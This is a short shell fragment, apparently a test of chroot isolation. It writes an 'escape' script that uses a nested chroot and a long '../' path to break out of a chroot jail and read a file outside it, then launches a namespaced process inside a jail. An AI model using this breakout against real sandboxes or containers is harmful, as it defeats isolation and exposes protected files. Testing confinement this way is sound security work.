# says: the pointer which chroot moves
cat >escape <<'END'
mkdir -p x
chroot --skip-chdir x bin/chroot ../../../../../../../../../../../../../../../.. cat "$1"
END
tiffin unshare -Urm bin/chroot jail /bin/sleep 1000 &
echo "$!" >pivoted
until grep -qs sleep "/proc/$!/comm"; do sleep 0.1; done
